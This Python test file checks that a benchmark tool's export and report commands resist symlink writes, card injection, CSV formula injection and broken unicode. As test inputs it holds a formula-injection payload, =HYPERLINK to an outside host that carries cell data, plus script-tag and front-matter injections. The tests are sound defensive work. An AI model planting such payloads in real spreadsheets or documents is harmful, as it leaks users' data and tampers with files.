"""Exports of a run folder that somebody else wrote: nothing is written elsewhere, and no value is taken for granted."""

import csv
import io
import json
import os
from pathlib import Path
from typing import Any

import pytest

from lotbench.cli import main
from lotbench.storage.jsonl import sealed
from tests.recorded import copied, recorded


@pytest.fixture
def run(tmp_path: Path) -> Path:
    """A copy of a recorded game."""
    return copied(recorded("lotbench"), tmp_path)


def changed(file: Path, line: int, **fields: Any) -> None:
    """Write other values into a line of a file of a run."""
    lines = file.read_bytes().splitlines(keepends=True)
    table = json.loads(lines[line])
    table.pop("crc", None)
    lines[line] = sealed(table | fields)
    file.write_bytes(b"".join(lines))


def test_nothing_is_written_through_a_link_in_the_run_folder_nor_over_a_file(
    run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (run / "export").symlink_to(home)
    for out in (run / "export", run / "export" / "deeper"):
        assert main(["export", str(run), "--to", "huggingface", "--out", str(out)]) == 2
        assert "nothing is written through one" in capsys.readouterr().err
    assert main(["export", str(run), "--out", str(run / "export" / "rows.csv")]) == 2
    (run / "plots").symlink_to(home)
    assert main(["report", str(run), "--png"]) == 2
    assert not list(home.iterdir())
    capsys.readouterr()
    assert main(["export", str(run), "--to", "huggingface", "--out", str(run / "run.json")]) == 2
    assert "run.json" in capsys.readouterr().err
    os.mkfifo(tmp_path / "pipe")
    for out, why in ((run / "calls.jsonl", "a file of a run"), (tmp_path / "pipe", "no regular file")):
        assert main(["export", str(run), "--out", str(out)]) == 2
        assert why in capsys.readouterr().err


def test_a_card_has_no_line_that_a_run_wrote(run: Path, tmp_path: Path) -> None:
    summary = run / "summary.json"
    told = json.loads(summary.read_text())
    told |= {
        "models": {"candidate": ["m\n\n# Owned\n<script>x</script>"]},
        "reasons": ["because\n---\nlicense: mine"],
        "rankable": False,
        "arm": "x\n# Owned",
    }
    summary.write_text(json.dumps(told))
    assert main(["export", str(run), "--to", "huggingface", "--out", str(tmp_path / "out")]) == 0
    card = (next((tmp_path / "out").glob("episodes-*")) / "README.md").read_text()
    assert not [line for line in card.splitlines() if line.startswith(("# Owned", "license:"))]
    assert "<script>" not in card


def test_no_cell_of_a_table_is_a_formula(run: Path, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://elsewhere/?"&A1)'
    changed(
        run / "traces.jsonl", 0, why=formula, score={"value": -1.5, "why": "-2+3", "parts": {"@SUM(A1)": 1}}
    )
    out = tmp_path / "rows.csv"
    assert main(["export", str(run), "--out", str(out)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert f"'{formula}" in cells and "-1.5" in cells and "parts.@SUM(A1)" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@")) or cell.startswith("-2")]


def test_half_a_character_in_an_episode_is_damage(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
    traces = run / "traces.jsonl"
    lines = traces.read_text(encoding="utf-8").splitlines(keepends=True)
    table = json.loads(lines[0])
    table.pop("crc", None)
    lines[0] = json.dumps({**table, "why": "\ud800"}) + "\n"
    traces.write_text("".join(lines), encoding="utf-8")
    assert main(["export", str(run)]) == 2
    assert "traces.jsonl:1: damaged" in capsys.readouterr().err
